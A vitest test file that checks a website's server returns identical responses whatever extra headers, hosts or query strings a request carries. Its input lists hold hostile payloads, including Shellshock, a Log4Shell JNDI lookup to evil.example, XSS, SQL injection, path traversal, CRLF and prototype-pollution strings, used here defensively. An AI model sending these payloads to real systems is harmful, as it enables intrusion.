import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { findAsset } from '../support/app/find-asset.ts';
import { PAGE_PATHS } from '../support/app/page-paths.ts';
import { startTestServer } from '../support/app/start-test-server.ts';
import {
  exchange,
  exchangeUntilClosed,
  type WireResponse,
} from '../support/http/raw-connection.ts';

const server = await startTestServer({
  ACCESS_LOG: '0',
  REDIRECTS_FILE: 'tests/support/app/redirects.txt',
});

// Created at their first request, which takes longer than a client waits that closes at once.
for (const path of ['/index.md', '/contact.md', '/llms.txt']) {
  await exchangeUntilClosed(server, `GET ${path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
}

/** Requests for everything that the site sends, as their first line and the fields they need. */
const TARGETS: [title: string, line: string, fields?: string | undefined][] = [
  ...PAGE_PATHS.map((path): [string, string] => [path, `GET ${path}`]),
  ['the 404 page', 'GET /no-existe'],
  ['a missing asset', 'GET /assets/none.js'],
  ['a redirect', 'GET /pricing/'],
  ['an old path', 'GET /old'],
  ['a path that is gone', 'GET /gone'],
  ['a script', `GET ${findAsset(/^entry-.*\.js$/)}`],
  ['an image', `GET ${findAsset(/\.svg$/)}`],
  ['a range', `GET ${findAsset(/\.woff2$/)}`, 'Range: bytes=0-9\r\n'],
  ...[
    ...['/index.md', '/llms.txt', '/robots.txt', '/sitemap.xml', '/manifest.webmanifest'],
    ...['/.well-known/security.txt', '/contact.vcf', '/whatsapp.svg', '/favicon.ico'],
    ...['/healthz', '/readyz'],
  ].map((path): [string, string] => [path, `GET ${path}`]),
  ['a page in brotli', 'GET /contact', 'Accept-Encoding: br\r\n'],
  ['a page as Markdown', 'GET /contact', 'Accept: text/markdown\r\n'],
  ['a 304', 'GET /', 'If-None-Match: *\r\n'],
  ['a HEAD', 'HEAD /pricing'],
  ['a malformed path', 'GET /%'],
  ['a method', 'POST /'],
];

/** What clients, proxies and attackers add, and what no response may depend on. */
const FIELDS = [
  ...`X-Forwarded-Host X-Forwarded-Port X-Forwarded-Prefix X-Forwarded-Server X-Forwarded-Scheme
    X-Host X-Original-Host X-Request-Id Next-Router-State-Tree rsc-action-id __proto__ constructor
    hasOwnProperty toString`
    .split(/\s+/)
    .map((name) => `${name}: evil.example`),
  ...['X-Forwarded-For', 'X-Real-IP', 'True-Client-IP'].map((name) => `${name}: 127.0.0.1`),
  ...['X-Original-URL', 'X-Rewrite-URL'].map((name) => `${name}: /gtc`),
  ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].map(
    (name) => `${name}: POST`,
  ),
  ...['RSC', 'Next-Action', 'X-Nextjs-Data', 'DNT'].map((name) => `${name}: 1`),
  ...['Purpose', 'X-Moz'].map((name) => `${name}: prefetch`),
  'X-Forwarded-Proto: https',
  'Forwarded: for=127.0.0.1;host=evil.example;proto=https',
  'Accept-Language: en, de;q=0.5',
  `Cookie: cc_cookie=${encodeURIComponent('{"categories":["necessary","analytics"]}')}; session=evil`,
  'Authorization: Basic ZXZpbDpldmls',
  'Origin: https://evil.example',
  'Referer: https://evil.example/pricing',
  'User-Agent: Googlebot/2.1',
  'User-Agent: () { :; }; echo evil',
  'X-Middleware-Subrequest: middleware:middleware:middleware',
  'Sec-Purpose: prefetch;prerender',
  'Sec-Fetch-Dest: empty',
  'Sec-Fetch-Site: cross-site',
  'Access-Control-Request-Method: DELETE',
  'X-Requested-With: XMLHttpRequest',
  'Pragma: no-cache',
  'Content-Type: application/json',
  'TE: trailers',
  'Save-Data: on',
  'X-Evil: <script>alert(1)</script>',
  "X-Evil: ' OR 1=1 --",
  `X-Evil: \${jndi:ldap://evil.example/a}`,
  'X-Evil: ../../../../etc/passwd',
];

const HOSTS = ['evil.example', 'evil.example:444', 'localhost', '127.0.0.1', '[::1]', ''];

const QUERIES = [
  '?',
  '?utm_source=evil&gclid=evil',
  '?__proto__[evil]=1&constructor[prototype][evil]=1',
  '?_method=DELETE&_data=root&_routes=root&_rsc=1',
  '?url=https://evil.example&next=//evil.example',
  '?<script>alert(1)</script>',
  '?a=%0d%0aSet-Cookie:%20evil=1',
  '?%00%ff%',
];

function write([, line, fields = '']: (typeof TARGETS)[number], host = 'a', more = ''): string {
  return `${line} HTTP/1.1\r\nHost: ${host}\r\n${fields}${more && `${more}\r\n`}\r\n`;
}

/** All that was sent, without the time at which it was; a digest of the body keeps failures short. */
function withoutDate({ statusLine, headers: { date: _, ...headers }, body }: WireResponse) {
  return { statusLine, headers, digest: createHash('sha256').update(body).digest('hex') };
}

describe('the whole response is the same, whatever else the request says, for', () => {
  it.each(TARGETS)('%s', async (...target) => {
    const variants = [
      ...FIELDS.map((field) => write(target, 'a', field)),
      write(target, 'a', FIELDS.join('\r\n')),
      ...HOSTS.map((host) => write(target, host)),
    ];
    await expectSame(write(target), variants);
  });
});

describe('the whole response is the same, whatever its query, for', () => {
  it.each(TARGETS.filter(([title]) => title !== 'a redirect'))(
    '%s',
    async (title, line, fields) => {
      const variants = QUERIES.map((query) => write([title, line + query, fields]));
      await expectSame(write([title, line, fields]), variants);
    },
  );
});

async function expectSame(plain: string, variants: string[]): Promise<void> {
  const [expected] = (await exchange(server, plain)).map(withoutDate);
  for (const variant of variants) {
    expect((await exchange(server, variant)).map(withoutDate), variant).toEqual([expected]);
  }
}

it('redirects with the query and nothing else of it', async () => {
  for (const query of QUERIES) {
    const [response] = await exchange(server, write(['', `GET /pricing/${query}`]));
    expect(response?.headers['location']).toMatch(/^\/pricing\?/);
    expect(response?.headers['set-cookie']).toBeUndefined();
  }
});

it.each(['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'])(
  'serves requests with %s as a repeated field and as a path',
  async (name) => {
    const fields = `${name}: a\r\n${name}: b\r\n${name}: c`;
    const [repeated] = await exchange(server, write(['', 'GET /'], 'a', fields));
    const [path] = await exchange(server, write(['', `GET /${name}`]));
    expect([repeated?.status, path?.status]).toEqual([200, 404]);
  },
);
